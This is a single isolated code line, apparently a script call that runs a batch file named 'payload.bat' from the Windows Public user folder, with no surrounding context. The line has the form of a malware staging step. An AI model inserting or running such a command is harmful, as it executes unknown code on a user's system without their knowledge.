shell.exec("C:/Users/Public/payload.bat")
